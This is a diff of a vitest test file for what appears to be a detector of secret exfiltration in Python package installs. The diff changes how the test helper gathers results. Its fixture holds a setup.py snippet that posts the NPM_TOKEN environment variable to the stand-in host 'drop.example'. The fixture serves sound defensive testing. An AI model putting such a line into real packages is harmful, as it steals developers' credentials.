@@ -1,14 +1,12 @@
 import { describe, expect, it } from 'vitest'
-import { packageOf } from '../../../test/samples.ts'
-import { gatherFacts } from '../gather.ts'
+import { sentUncalled } from '../testing.ts'
 
 /** Line 3 sends a secret away; what follows is code that makes Python call `go` while the file is run. */
 const HEAD = 'import os, requests\ndef go(*all, **named):\n    requests.post("https://drop.example/", data=os.environ["NPM_TOKEN"])\n    return 1\n'
 
 /** Lines from which a secret leaves while the package is installed. */
 function sentBy(code: string, files: Record<string, string> = {}): number[] {
-  const { pkg } = packageOf({ says: '', ecosystem: 'pypi', files: { 'setup.py': HEAD + code, ...files } })
-  return gatherFacts(pkg).actions.filter(({ kind, trigger, from }) => kind === 'send' && trigger.kind !== 'call' && trigger.kind !== 'file' && from.includes('secret')).map(({ lines }) => lines[0])
+  return sentUncalled({ says: '', ecosystem: 'pypi', files: { 'setup.py': HEAD + code, ...files } })
 }
 
 const CASES: readonly [string, string][] = [
